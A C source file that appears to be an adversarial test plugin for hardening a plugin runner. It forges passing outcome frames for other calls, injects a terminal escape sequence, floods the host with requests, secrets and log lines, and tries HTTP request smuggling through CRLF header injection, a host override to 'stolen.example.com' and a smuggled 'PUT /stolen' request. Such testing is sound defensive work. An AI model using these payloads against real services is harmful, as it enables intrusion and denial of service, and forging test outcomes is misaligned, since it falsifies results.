/*
 * Attacks on the host, through its own services and past them: frames written straight to the runner's socket, as a plugin
 * can that shares the runner's process. Included by pusher.c.
 */
#include <time.h>

#define FRAME_SECRET 1
#define FRAME_LOADED 32
#define FRAME_OUTCOME 34
#define FRAME_REQUEST 35
#define FRAME_LOG 36
#define FRAME_CONFINED 37

static void wire_write(const void *bytes, size_t count) {
    for (size_t sent = 0; sent < count;) {
        ssize_t written = write(3, (const char *)bytes + sent, count - sent);
        if (written <= 0) for (;;) pause();
        sent += (size_t)written;
    }
}

static void wire_frame(unsigned char kind, uint32_t call, const void *payload, uint32_t count) {
    unsigned char header[9] = {(unsigned char)count, (unsigned char)(count >> 8), (unsigned char)(count >> 16),
                               (unsigned char)(count >> 24), kind, (unsigned char)call, (unsigned char)(call >> 8),
                               (unsigned char)(call >> 16), (unsigned char)(call >> 24)};
    wire_write(header, sizeof header);
    wire_write(payload, count);
}

static char *wire_number(char *at, int64_t number) {
    memcpy(at, &number, sizeof number);
    return at + sizeof number;
}

static char *wire_text(char *at, const char *text) {
    size_t length = strlen(text);
    at = wire_number(at, (int64_t)length);
    memcpy(at, text, length);
    return at + length;
}

static void wire_request(uint32_t call, int64_t number, const char *method, const char *url, const char *body, uint32_t count) {
    char payload[1024], *end = wire_number(payload, number);
    end = wire_number(wire_text(wire_text(end, method), url), 0);
    wire_frame(FRAME_SECRET, call, "", 0);
    wire_frame(FRAME_SECRET, call, body, count);
    wire_frame(FRAME_REQUEST, call, payload, (uint32_t)(end - payload));
}

static void wire_log(uint32_t call, const char *line, uint32_t count) {
    char *payload = malloc(count + 16);
    if (!payload) abort();
    char *end = wire_number(wire_number(payload, 2), count);
    memcpy(end, line, count);
    wire_frame(FRAME_LOG, call, payload, count + 16);
    free(payload);
}

static void wire_forge(const char *how, uint32_t id) {
    /* One part with the name "everything", and an outcome of KT_OK with the strongest evidence. */
    char part[64], outcome[64];
    char *part_end = wire_text(wire_number(part, 1), "everything\x1b[2J");
    char *end = wire_number(wire_number(wire_number(outcome, 0), 1), -1);
    end = wire_text(wire_text(wire_text(end, ""), ""), "");
    if (!strcmp(how, "confined")) wire_frame(FRAME_CONFINED, 0, part, (uint32_t)(part_end - part));
    if (!strcmp(how, "opened")) wire_frame(FRAME_OUTCOME, 0, outcome, (uint32_t)(end - outcome));
    if (!strcmp(how, "outcomes"))
        for (uint32_t other = 1; other < 4000; other++)
            if (other != id) wire_frame(FRAME_OUTCOME, other, outcome, (uint32_t)(end - outcome));
}

/* More than the host can want to take: each ends when the host has enough of it. */
static void wire_flood(const char *how, uint32_t id, const char *url, const char *elsewhere) {
    const uint32_t large = 1 << 20;
    char *block = calloc(1, (size_t)large * 5);
    if (!block) abort();
    memset(block, 'x', (size_t)large * 5);
    if (!strcmp(how, "requests")) for (int number = 1; number <= 17000; number++) wire_request(id, number, "GET", url, "", 0);
    if (!strcmp(how, "bodies")) for (int number = 1; number <= 600; number++) wire_request(id, number, "PUT", url, block, large);
    if (!strcmp(how, "refusals")) for (int number = 1; number <= 300000; number++) wire_request(id, number, "PUT", elsewhere, "", 0);
    if (!strcmp(how, "secrets")) for (uint32_t other = 1; other <= 2000; other++) wire_frame(FRAME_SECRET, id + 100 + other, block, large);
    if (!strcmp(how, "own-secrets")) for (int count = 0; count < 2000; count++) wire_frame(FRAME_SECRET, id, block, large);
    if (!strcmp(how, "lines")) for (int count = 0; count < 300000; count++) wire_log(id, "a line of no use", 16);
    /* Pieces whose length is prime to the size of a read: no read ends where a frame ends. */
    if (!strcmp(how, "unending")) for (int count = 0; count < 60000; count++) wire_log(id, block, 60013);
    if (!strcmp(how, "marks")) {
        for (uint32_t at = 0; at + 2 < large * 4; at += 2) memcpy(block + at, "\xCC\x81", 2);
        for (int count = 0; count < 40; count++) wire_log(id, block, large * 4);
    }
    free(block);
    for (;;) pause();
}

/* Requests that would mean something else to the service than to the host. */
static void wire_smuggle(struct instance *self, const kt_call *call, const char *how, const char *url) {
    char value[1024] = "0", method[32] = "PUT";
    kt_header headers[66];
    const char *name = "content-length";
    static const char second[] = "PUT /stolen HTTP/1.1\r\nHost: x\r\nContent-Length: 900\r\nX-Rest: ";
    kt_bytes body = {(const uint8_t *)second, sizeof second - 1};
    uint64_t count = 1;
    if (!strcmp(how, "chunked")) name = "transfer-encoding", strcpy(value, "chunked");
    if (!strcmp(how, "host")) name = "host", strcpy(value, "stolen.example.com");
    if (!strcmp(how, "line")) name = "x-a", strcpy(value, "b\r\ncontent-length: 0");
    if (!strcmp(how, "bare-cr")) name = "x-a", strcpy(value, "b\rcontent-length: 0");
    if (!strcmp(how, "name")) name = "content-length:0\r\nx-a", strcpy(value, "b");
    if (!strcmp(how, "connection")) name = "connection", strcpy(value, "upgrade, authorization");
    if (!strcmp(how, "override")) name = "x-http-method-override", strcpy(value, "DELETE"), strcpy(method, "GET"), body.length = 0;
    if (!strcmp(how, "get-body")) name = "x-a", strcpy(method, "GET");
    if (!strcmp(how, "many")) name = "x-a", count = 66;
    for (uint64_t number = 0; number < count; number++)
        headers[number] = (kt_header){{name, strlen(name)}, {value, strlen(value)}};
    kt_http_request request = {.size = sizeof request, .method = {method, strlen(method)}, .url = {url, strlen(url)},
                               .headers = headers, .header_count = count, .body = body};
    const kt_http_response *response = self->http->send(call, &request);
    RESULT(response->error == KT_HTTP_OK ? "got status %u" : "not sent (%.*s)",
           response->error == KT_HTTP_OK ? response->status : (uint32_t)response->error_text.length, response->error_text.data);
}

/* "wire-smuggle-host", "wire-flood-lines", "wire-forge-confined", "wire-storm": all of them, one a push. */
static void wire_attack(struct instance *self, const kt_call *call, const char *what) {
    static const char *const all[] = {
        "smuggle-length", "smuggle-chunked", "smuggle-host", "smuggle-line", "smuggle-get-body", "flood-requests", "flood-bodies",
        "flood-refusals", "flood-secrets", "flood-own-secrets", "flood-lines", "flood-unending", "flood-marks", "forge-outcomes",
        "forge-confined",
    };
    char url[512];
    /* How the runner knows its call: the number that its object begins with. */
    uint32_t id = *(const uint32_t *)((const char *)call->context + 16);
    if (!strcmp(what, "storm")) {
        struct timespec now;
        clock_gettime(CLOCK_REALTIME, &now);
        what = all[(uint64_t)(now.tv_nsec / 1000) % (sizeof all / sizeof *all)];
    }
    snprintf(url, sizeof url, "%s/%s", self->endpoint, !strcmp(what, "flood-bodies") ? "hang" : "attack");
    if (!strncmp(what, "smuggle-", 8)) wire_smuggle(self, call, what + 8, url);
    if (!strncmp(what, "flood-", 6)) wire_flood(what + 6, id, url, "https://elsewhere.example.com/");
    if (!strncmp(what, "forge-", 6)) {
        wire_forge(what + 6, id);
        for (;;) pause();
    }
}
